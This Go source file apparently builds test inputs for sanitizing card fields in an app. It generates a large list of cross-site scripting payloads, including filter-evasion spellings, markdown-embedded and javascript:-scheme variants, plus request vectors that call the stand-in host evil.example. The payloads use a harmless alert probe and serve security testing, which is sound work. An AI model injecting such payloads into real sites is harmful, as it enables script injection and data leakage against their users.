// Package attack makes hostile cards: texts that would run a script or ask
// somebody else for something, in every field of a card that takes any text.
package attack

import (
	"fmt"
	"slices"
	"strings"
)

// Elsewhere is the host that vectors try to reach. It is reserved (RFC 2606).
const Elsewhere = "evil.example"

// breakouts end what a text may stand in.
var breakouts = []string{
	"", `">`, `'>`, `</textarea>`, `</title>`, `</script>`, `</style>`, `-->`, `]]>`, `</code></pre>`, "```\n\n", `</noscript>`, `</svg>`, `" `,
}

// elements run a script by themselves.
var elements = []string{
	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<body onload=alert(1)>`, `<details open ontoggle=alert(1)><summary>x</summary></details>`,
	`<input autofocus onfocus=alert(1)>`, `<select autofocus onfocus=alert(1)></select>`, `<button autofocus onfocus=alert(1)>x</button>`, `<video src=x onerror=alert(1)></video>`,
	`<video><source src=x onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)></audio>`, `<iframe onload=alert(1)></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data=x onerror=alert(1)></object>`, `<style onload=alert(1)></style>`, `<link rel=stylesheet href=x onerror=alert(1)>`, `<script src=x onerror=alert(1)></script>`,
	`<svg><script>alert(1)</script></svg>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>`, `<svg><set onbegin=alert(1) attributeName=x to=1></svg>`,
	`<svg><image href=x onerror=alert(1) /></svg>`, `<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=alert(1)></style></mtext></svg>`,
	`<form><input type=image src=x onerror=alert(1)></form>`, `<div tabindex=1 autofocus onfocus=alert(1)>x</div>`,
}

// spellings are other ways to write the same, which filters by pattern miss.
var spellings = []string{
	`<ScRiPt>alert(1)</sCrIpT>`, `<IMG SRC=x ONERROR=alert(1)>`, `<img/src=x/onerror=alert(1)>`, "<img\nsrc=x\nonerror=alert(1)>", "<img\tsrc=x\tonerror\t=\talert(1)>",
	`<img src=x onerror=alert(1)//`, `<<script>alert(1)//<</script>`, `<script/x>alert(1)</script>`, `<script >alert(1)</script >`, `<img src=x onerror="alert&#40;1&#41;">`, `<img src=x onerror="&#x61;lert(1)">`,
	"<img src=x onerror=alert`1`>", `<img src="x" alt="" onerror='alert(1)'>`, `<img """><script>alert(1)</script>">`, `<img src=x:x onerror=alert(1)>`, `<image src=x onerror=alert(1)>`, `<svg/onload=alert(1)>`,
	"<svg\u00a0onload=alert(1)>", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<textarea><img title="</textarea><img src=x onerror=alert(1)>">`,
	`<title><img title="</title><img src=x onerror=alert(1)>">`, `<xmp><img title="</xmp><img src=x onerror=alert(1)>">`, `<!--><img src=x onerror=alert(1)>-->`, `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<![CDATA[<img src=x onerror=alert(1)>]]>`, `<?xml version="1.0"?><img src=x onerror=alert(1)>`, `</p><img src=x onerror=alert(1)>`, `<p><table><td><img src=x onerror=alert(1)>`, `<a><b><i><img src=x onerror=alert(1)>`,
	`{{constructor.constructor('alert(1)')()}}`, `${alert(1)}`, `<%= alert(1) %>`, "` onmouseover=alert(1) x=`", `" onfocus=alert(1) autofocus x="`, `' onfocus=alert(1) autofocus x='`, `javascript:alert(1)`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;img src=x onerror=alert(1)&#62;`, `%3Cscript%3Ealert(1)%3C/script%3E`, `\u003cscript\u003ealert(1)\u003c/script\u003e`, `\x3cscript\x3ealert(1)\x3c/script\x3e`,
	`<template><script>alert(1)</script></template>`, `<dialog open><script>alert(1)</script></dialog>`, `<plaintext><img src=x onerror=alert(1)>`, `<frameset onload=alert(1)>`, `<marquee onstart=alert(1)>x</marquee>`,
	`<isindex type=image src=x onerror=alert(1)>`, `<x onclick=alert(1) autofocus tabindex=1 onfocus=alert(1)>x`, `<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>`, `<svg><desc><img src=x onerror=alert(1)></desc></svg>`,
	"|a|\n|-|\n|<img src=x onerror=alert(1)>|", "> <img src=x onerror=alert(1)>", "- <img src=x onerror=alert(1)>", "# <img src=x onerror=alert(1)>", "    <img src=x onerror=alert(1)>", "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
	`**<img src=x onerror=alert(1)>**`, "`<img src=x onerror=alert(1)>`", `[<img src=x onerror=alert(1)>](https://example.com)`, `![<img src=x onerror=alert(1)>](x)`, `![x](x "<img src=x onerror=alert(1)>")`, `![x](x"onerror="alert(1))`,
}

// schemes are addresses that run a script.
var schemes = []string{
	`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, `java&#x09;script:alert(1)`, `&#106;avascript:alert(1)`, `javascript&colon;alert(1)`, "java\tscript:alert(1)", ` javascript:alert(1)`,
	`data:text/html,<script>alert(1)</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `vbscript:alert(1)`,
}

// places hold an address.
var places = []string{
	`[x](%s)`, `![x](%s)`, `<%s>`, "[x]\n\n[x]: %s", `<a href="%s">x</a>`, `<a href='%s'>x</a>`, `<svg><a xlink:href="%s"><text y=9>x</text></a></svg>`, `<form action="%s"><button>x</button></form>`,
	`<button form=f formaction="%s">x</button>`, `<iframe src="%s"></iframe>`, `<object data="%s"></object>`, `<embed src="%s">`, `<map><area href="%s" shape=default></map>`, `<meta http-equiv=refresh content="0;url=%s">`,
}

// leaks ask for something elsewhere without a script.
var leaks = []string{
	`![x](%s)`, `<img src=%s>`, `<img srcset="%s 1x">`, `<picture><source srcset=%s><img></picture>`, `<link rel=stylesheet href=%s>`, `<link rel=prefetch href=%s>`, `<link rel=icon href=%s>`,
	`<style>@import '%s'</style>`, `<style>body{background:url(%s)}</style>`, `<p style="background:url(%s)">x</p>`, `<video poster=%s></video>`, `<video src=%s></video>`, `<audio src=%s></audio>`,
	`<object data=%s></object>`, `<embed src=%s>`, `<iframe src=%s></iframe>`, `<input type=image src=%s>`, `<body background=%s>`, `<table background=%s><td>x</table>`,
	`<svg><image href=%s></image></svg>`, `<svg><image xlink:href=%s></image></svg>`, `<script src=%s></script>`, `<meta http-equiv=refresh content="0;url=%s">`, `<base href=%s><img src=x>`, `<track src=%s>`, `<img src=//%s>`,
}

// Vectors are all texts, the same in every run.
func Vectors() []string {
	all := slices.Clone(spellings)
	for _, b := range breakouts {
		for _, e := range elements {
			all = append(all, b+e)
		}
	}
	for _, s := range schemes {
		for _, p := range places {
			all = append(all, fmt.Sprintf(p, s))
		}
	}
	for i, p := range leaks {
		all = append(all, strings.Replace(fmt.Sprintf(p, fmt.Sprintf("https://%s/leak-%d", Elsewhere, i)), "//https://", "//", 1))
	}
	return all
}

// Few are n of the vectors at most, evenly spread.
func Few(n int) []string {
	all := Vectors()
	n = min(n, len(all))
	few := make([]string, n)
	for i := range few {
		few[i] = all[i*len(all)/n]
	}
	return few
}
